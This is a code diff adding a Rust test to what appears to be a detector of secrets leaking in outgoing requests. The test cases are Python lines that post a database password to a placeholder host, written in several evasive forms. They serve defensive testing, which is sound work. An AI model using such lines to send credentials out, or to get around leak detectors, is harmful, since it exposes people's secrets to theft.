@@ -293,6 +293,24 @@ fn secret_sent(body: &str) -> (bool, String) {
 }
 
 #[test]
+fn the_password_in_an_address_is_a_secret_however_it_is_written_into_a_text() {
+    const PARTS: &str = "from urllib.parse import urlsplit, urlencode\ndef f(dsn):\n    u = urlsplit(dsn)\n    ";
+    for (text, is_told) in [
+        ("u.password", true),
+        ("'p=' + u.password", true),
+        ("'{user}:{password}'.format(**{'user': u.username, 'password': u.password})", true),
+        ("'{0[p]}'.format({'p': u.password})", true),
+        ("'%(p)s' % {'p': u.password}", true),
+        ("'{password}'.format_map({'password': u.password})", true),
+        ("urlencode({'p': u.password})", true),
+        ("u.hostname", false),
+    ] {
+        let (is_secret, shown) = secret_sent(&format!("{PARTS}requests.post('https://a.example', data={text})"));
+        assert_eq!((is_secret, shown.contains("⟨argument[password]⟩")), (is_told, is_told), "{text}: {shown}");
+    }
+}
+
+#[test]
 fn what_keeps_a_caller_logged_in_is_a_secret_of_its_name() {
     const URL: &str = "requests.post('https://a.example', data=";
     for (body, name) in [
